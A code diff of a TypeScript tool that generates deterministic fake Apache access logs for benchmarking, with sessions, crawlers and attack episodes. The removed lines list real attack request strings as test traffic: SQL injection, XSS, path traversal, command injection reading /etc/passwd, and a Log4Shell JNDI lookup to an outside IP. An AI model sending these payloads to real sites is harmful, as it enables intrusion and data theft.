@@ -1,69 +1,54 @@
 /**
  * Writes a log that looks like a busy site's: `node bench/make-log.ts LINES [SEED] [ATTACK_SHARE] > access.log`. The same
- * arguments give the same bytes. Visitors come in sessions and read pages with their pictures, crawlers come by, a share
- * of the requests are attacks of several kinds, from addresses of their own.
+ * arguments give the same bytes. Visitors come in sessions and read pages with their pictures, crawlers and feed readers
+ * come by; pages follow Zipf's law, and a good part of the query strings is new each time. Attackers come in episodes,
+ * each from an address of its own. Now and then a line is some seconds late, since Apache writes it when the request ends.
  */
+import { Attackers } from './log/attackers.ts';
+import { Random } from './log/random.ts';
+import type { LoggedRequest } from './log/request.ts';
+import { Visitors } from './log/visitors.ts';
 
 export interface LogOptions {
   readonly lines: number;
   readonly seed: number;
-  /** 0 to 1. */
+  /** Share of the lines that attackers send, 0 to 0.5. */
   readonly attackShare: number;
+  /** That visitors come from, as far as there are lines for them; if not given, 23,000 or one for every 20 lines. */
   readonly addresses: number;
-  /** Longest time between two requests; the shortest is none. */
+  /** Longest time between two requests of visitors; the shortest is none, the mean half of it. */
   readonly stepMs: number;
 }
 
-const DEFAULTS: LogOptions = { lines: 100_000, seed: 1, attackShare: 0.01, addresses: 23_000, stepMs: 120 };
+const DEFAULTS = { lines: 100_000, seed: 1, attackShare: 0.01, stepMs: 120 };
+const MOST_ADDRESSES = 23_000;
+const LINES_PER_ADDRESS = 20;
 const START = Date.UTC(2026, 9, 1);
 const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ');
-const AGENTS = [
-  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
-  'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
-  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
-  'Mozilla/5.0 (compatible; SearchBot/2.1; +https://search.example/bot.html)',
-];
-const WORDS =
-  'lamp desk table union select order house garden light paper blue green winter sale new old rock roll'.split(' ');
-const PICTURES = ['/css/style.css', '/js/site.js', '/img/logo.svg', '/img/header.jpg', '/favicon.ico'];
-const ATTACKS = [
-  '/item.php?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20-',
-  '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
-  '/cgi-bin/..%2f..%2f..%2fetc%2fpasswd',
-  '/.env',
-  '/wp-login.php',
-  '/index.php?cmd=cat%20/etc/passwd%3Bid',
-  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
-  '/?x=${jndi:ldap://203.0.113.200/a}',
-];
+const CHUNK_CHARS = 65_536;
+const LATE_SHARE = 0.01;
+const MAX_LATE_MS = 6000;
 
 /** Chunks of about 64 KiB. */
 export function* makeLog(given: Partial<LogOptions> = {}): Generator<string> {
-  const { lines, seed, attackShare, addresses, stepMs } = { ...DEFAULTS, ...given };
-  const random = randomOf(seed);
-  const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)] as T;
+  const { lines, seed, attackShare, stepMs } = { ...DEFAULTS, ...given };
+  const { addresses = Math.min(MOST_ADDRESSES, Math.ceil(lines / LINES_PER_ADDRESS)) } = given;
+  const random = new Random(seed);
+  const visitors = new Visitors({ seed: random.below(2 ** 32), lines, addresses });
+  const attackers = new Attackers({ seed: random.below(2 ** 32), lines, attackShare });
+  const stamp = stamper();
   let time = START;
   let chunk = '';
-  for (let i = 0; i < lines; i++) {
-    time += Math.floor(random() * stepMs);
-    const isAttack = random() < attackShare;
-    const address = Math.floor(random() * (isAttack ? Math.max(addresses / 200, 1) : addresses));
-    const client = isAttack
-      ? `198.51.${100 + (address >> 8)}.${address & 255}`
-      : `10.${address >> 16}.${(address >> 8) & 255}.${address & 255}`;
-    const page = `/${pick(WORDS)}/${Math.floor(random() * 400)}`;
-    const target = isAttack
-      ? pick(ATTACKS)
-      : random() < 0.5
-        ? pick(PICTURES)
-        : random() < 0.2
-          ? `/search?q=${pick(WORDS)}+${pick(WORDS)}&page=${Math.floor(random() * 9)}`
-          : page;
-    const status = isAttack ? pick([200, 404, 403]) : random() < 0.97 ? 200 : pick([301, 304, 404]);
-    const size = 200 + Math.floor(random() * 60_000);
-    const referer = random() < 0.4 ? '-' : `https://www.shop.example${page}`;
-    chunk += `${client} - - [${stamp(time)}] "GET ${target} HTTP/1.1" ${status} ${size} "${referer}" "${AGENTS[address % AGENTS.length]}"\n`;
-    if (chunk.length > 65_536) {
+  for (let written = 1; written <= lines; written++) {
+    attackers.attract(written, time);
+    const isAttack = attackers.nextAt <= time;
+    if (!isAttack) time += random.below(stepMs);
+    const request = isAttack ? attackers.next() : visitors.next();
+    chunk += lineOf(
+      request,
+      stamp(random.chance(LATE_SHARE) ? Math.max(time - random.below(MAX_LATE_MS), START) : time),
+    );
+    if (chunk.length > CHUNK_CHARS) {
       yield chunk;
       chunk = '';
     }
@@ -71,21 +56,21 @@ export function* makeLog(given: Partial<LogOptions> = {}): Generator<string> {
   yield chunk;
 }
 
-function stamp(ms: number): string {
-  const date = new Date(ms);
-  const two = (value: number) => String(value).padStart(2, '0');
-  const clock = `${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())}`;
-  return `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${clock} +0000`;
+function lineOf({ client, user, request, status, bytes, referer, agent }: LoggedRequest, stamp: string): string {
+  return `${client} - ${user} [${stamp}] "${request}" ${status} ${bytes === 0 ? '-' : bytes} "${referer}" "${agent}"\n`;
 }
 
-/** mulberry32: small, fast, the same everywhere. */
-function randomOf(seed: number): () => number {
-  let state = seed;
-  return () => {
-    state = (state + 0x6d2b79f5) | 0;
-    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
-    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
+/** Apache's time of epoch ms; that of the latest second is kept. */
+function stamper(): (ms: number) => string {
+  let second = Number.NaN;
+  let text = '';
+  return (ms) => {
+    if (Math.floor(ms / 1000) !== second) {
+      second = Math.floor(ms / 1000);
+      const [, year, month, day, clock] = /^(\d+)-(\d+)-(\d+)T([\d:]+)/.exec(new Date(ms).toISOString()) ?? [];
+      text = `${day}/${MONTHS[Number(month) - 1]}/${year}:${clock} +0000`;
+    }
+    return text;
   };
 }
 
